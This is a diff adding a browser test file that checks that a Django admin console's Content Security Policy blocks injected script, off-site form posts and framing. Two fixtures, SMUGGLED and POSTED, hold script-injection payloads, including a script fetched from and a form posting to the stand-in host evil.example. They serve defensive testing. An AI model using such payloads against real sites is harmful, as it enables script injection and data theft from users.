@@ -1,0 +1,108 @@
+"""The policy the console is served with, in a real browser: nothing of ours breaks it, and what is smuggled in does."""
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from playwright.sync_api import Page, expect
+
+from messaging.models import Message
+from tests.browser.test_accessibility import addresses  # noqa: F401 - one of each page, with something on it
+from tests.factories import CustomerFactory, MessageFactory, SenderFactory
+
+SMUGGLED = """() => {
+    const inside = document.createElement('div');
+    inside.innerHTML = '<img src="data:," onerror="window.ran = 1"><a href="javascript:window.ran = 2" id="js">x</a>';
+    const written = document.createElement('script'), fetched = document.createElement('script');
+    written.textContent = 'window.ran = 3';
+    fetched.src = 'https://evil.example/x.js';
+    document.body.append(inside, written, fetched);
+    document.getElementById('js').click();
+}"""
+POSTED = """() => {
+    const form = document.createElement('form');
+    Object.assign(form, { action: 'https://evil.example/', method: 'post' });
+    document.body.append(form);
+    form.submit();
+}"""
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+
+@pytest.fixture
+def refused(page: Page, live_server, transactional_db) -> list[str]:
+    """What the browser refused to do or could not do, while an Admin looks at the console."""
+    boss = User.objects.filter(username="boss").first() or User.objects.create_superuser("boss", password="pass")
+    client = Client()
+    client.force_login(boss)
+    page.context.add_cookies(
+        [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}]
+    )
+    found: list[str] = []
+    page.on("console", lambda said: found.append(f"{page.url}: {said.text}") if said.type == "error" else None)
+    page.on("pageerror", lambda wrong: found.append(f"{page.url}: {wrong}"))
+    return found
+
+
+def test_no_page_of_the_console_breaks_its_own_policy(addresses, page, live_server, refused):  # noqa: F811
+    for address in addresses:
+        answer = page.goto(live_server.url + address)
+        page.wait_for_load_state("networkidle")
+        policy = answer.header_value("content-security-policy")
+        assert "script-src 'self' 'unsafe-eval';" in policy + ";"
+        assert "frame-ancestors 'none'" in policy
+
+    assert refused == []
+
+
+def test_alpine_trix_and_the_preview_work_under_it(page, live_server, refused):
+    SenderFactory()
+    CustomerFactory(name="Ada Byron", email="ada@acme.example")
+    page.goto(f"{live_server.url}/admin/messaging/message/add/")
+    page.wait_for_load_state("networkidle")
+
+    page.locator("trix-editor, [contenteditable]").first.click()
+    page.keyboard.type("Hello there")
+
+    expect(page.locator("iframe").first).to_be_visible()
+    expect(page.frame_locator("iframe").first.get_by_text("Hello there")).to_be_visible()
+    assert refused == []
+
+
+def test_a_script_that_got_into_a_page_does_not_run(page, live_server, refused):
+    page.goto(f"{live_server.url}/admin/")
+
+    page.evaluate(SMUGGLED)
+    page.wait_for_timeout(300)
+
+    assert page.evaluate("window.ran") is None
+    assert sum("Content Security Policy" in one for one in refused) >= 4
+
+
+def test_a_form_that_got_into_a_page_posts_to_no_stranger(page, live_server, refused):
+    page.goto(f"{live_server.url}/admin/")
+
+    page.evaluate(POSTED)
+    page.wait_for_timeout(300)
+
+    assert page.url.startswith(live_server.url)
+    assert any("form-action" in one for one in refused)
+
+
+def test_the_console_is_shown_in_no_other_website(page, live_server, refused, site):
+    address = site.put("/", f'<iframe src="{live_server.url}/admin/"></iframe>')
+
+    page.goto(address)
+    page.wait_for_timeout(500)
+
+    assert not any("/admin/" in frame.url for frame in page.frames[1:])
+
+
+def test_what_a_message_says_does_not_run_where_it_is_shown(page, live_server, refused):
+    message = MessageFactory(live=True)
+    version = Message.objects.get(pk=message.pk).version
+    type(version).objects.filter(pk=version.pk).update(author=None)
+    page.goto(f"{live_server.url}/admin/messaging/message/{message.pk}/change/")
+    page.wait_for_load_state("networkidle")
+
+    for frame in page.locator("iframe").all():
+        assert frame.get_attribute("sandbox") == ""
+    assert refused == []
